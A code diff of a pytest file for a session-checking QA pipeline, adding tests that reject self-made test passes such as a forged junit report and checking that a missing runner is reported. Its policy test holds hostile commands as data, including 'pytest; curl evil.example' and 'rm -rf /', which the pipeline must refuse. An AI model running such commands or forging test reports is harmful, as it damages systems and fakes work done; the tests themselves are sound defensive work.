@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import AsyncIterator
 from dataclasses import replace
 from pathlib import Path
@@ -12,6 +13,7 @@ import pytest
 
 from collector.collector import Collector
 from collector.judge.rubric_judge import RubricJudge
+from collector.qa import profiles
 from collector.qa.pipeline import SandboxFor, request_step, run_qa
 from collector.qa.profiles import normal_image
 from collector.qa.sandbox.bubblewrap import BubblewrapSandbox
@@ -20,7 +22,9 @@ from collector.qa.sandbox.port import Job, Outcome, Sandbox, SandboxFacts
 from tests.collector.qa.rigs import (
     CALM,
     FIXED,
+    FORGED,
     NO_PROFILE,
+    RUNNER,
     TEST,
     a_collector,
     a_repository,
@@ -233,6 +237,30 @@ async def test_tests_that_pass_on_the_bug_prove_nothing(
     assert qa["tests"]["detail"]["proof"]["verdict"] == "passes_at_base"
 
 
+@pytest.mark.parametrize(
+    ("head", "verdict"),
+    [
+        ({"product.sh": "exit 0\n"}, "no_report"),
+        ({"product.sh": "exit 0\n", ".pm-report/junit.xml": FORGED}, "no_report"),
+        ({"run.sh": "exit 0\n"}, "passes_at_base"),
+        ({"run.sh": f"echo {shlex.quote(FORGED)} > .pm-report/junit.xml\n"}, "passes_at_base"),
+        ({"Makefile": "test:\n\ttrue\n"}, "passes_at_base"),
+    ],
+    ids=["ended", "report brought along", "runner", "report forged", "makefile"],
+)
+async def test_a_pass_that_the_session_made_itself_is_not_proven(
+    collector: Collector, tmp_path: Path, sandbox: SandboxFor, head: dict[str, str | None], verdict: str
+) -> None:
+    started = {"run.sh": f". ./product.sh\n{RUNNER}", "product.sh": ":\n"}
+    base = {"tests/half.sh": TEST, "Makefile": "test:\n\tsh run.sh\n", **started}
+    make = "Makefile" in head
+    trace_id = await send_session(
+        collector, a_repository(tmp_path, base=base, head=head), profile="make test" if make else None
+    )
+    proof = (await _check(collector, trace_id, tmp_path, sandbox))["tests"]["detail"]["proof"]
+    assert proof["verdict"] == verdict
+
+
 async def test_a_flaky_test_is_marked(collector: Collector, tmp_path: Path, sandbox: SandboxFor) -> None:
     flaky = "test $(od -An -N1 -tu1 /dev/urandom) -lt 128\n"
     repository = a_repository(tmp_path, head={"divisor.txt": FIXED, "tests/luck.sh": flaky})
@@ -399,16 +427,25 @@ async def test_pytest_is_run_in_a_container_and_its_tests_are_told_one_by_one(
         ({"runner": "pytest", "command": "pytest; curl evil.example"}, "policy"),
         ({"runner": "custom", "command": "rm -rf /"}, "policy"),
         ({"runner": "pytest", "build": ["pip install x"], "network": True}, "policy"),
-        ("go test", "tool_missing"),
     ],
 )
-async def test_what_the_server_does_not_allow_or_have_is_said_and_nothing_runs(
+async def test_what_the_server_does_not_allow_is_said_and_nothing_runs(
     collector: Collector, tmp_path: Path, sandbox: SandboxFor, profile: Any, reason: str
 ) -> None:
     trace_id = await send_session(collector, a_repository(tmp_path), profile=profile)
     qa = await _check(collector, trace_id, tmp_path, sandbox)
     assert (qa["tests"]["final_passed"], qa["tests"]["not_testable"]) == (None, reason)
     assert qa["tests"]["invocations"] == []
+
+
+async def test_a_runner_that_is_not_there_is_said_and_nothing_runs(
+    collector: Collector, tmp_path: Path, sandbox: SandboxFor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    go = profiles._USUAL["go test"]
+    monkeypatch.setattr(profiles, "_USUAL", {**profiles._USUAL, "go test": go._replace(probe="no-such-go version")})
+    trace_id = await send_session(collector, a_repository(tmp_path), profile="go test")
+    qa = await _check(collector, trace_id, tmp_path, sandbox)
+    assert (qa["tests"]["not_testable"], qa["tests"]["invocations"]) == ("tool_missing", [])
 
 
 async def test_an_open_trace_is_not_checked(collector: Collector, tmp_path: Path, sandbox: SandboxFor) -> None:
